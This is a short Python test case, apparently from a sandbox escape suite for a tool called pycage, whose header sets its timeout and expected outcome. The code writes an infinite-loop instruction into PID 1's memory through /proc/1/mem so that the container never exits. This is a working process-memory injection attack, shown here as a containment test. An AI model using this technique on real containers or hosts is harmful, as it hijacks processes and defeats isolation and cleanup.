# attack: writes docker-init's code through /proc/1/mem (same uid, ptrace is not needed) so
#   that PID 1 spins instead of exiting when the program ends: the container would outlive
#   the run unless pycage removes it by force
# timeout: 5
# expect: status in ok|error ; answered within 8 s
# escaped: status timeout ; wall 40
import sys

io = sys.modules["io"]
try:
    with io.open("/proc/1/syscall") as f:
        pc = int(f.read().split()[-1], 16)
    with io.open("/proc/1/mem", "r+b", buffering=0) as mem:
        mem.seek(pc)
        mem.write(b"\xeb\xfe")       # jmp . : PID 1 never returns to its wait loop
    print("pid 1 rewritten at", hex(pc))
except BaseException as exc:
    print("refused", type(exc).__name__, exc)
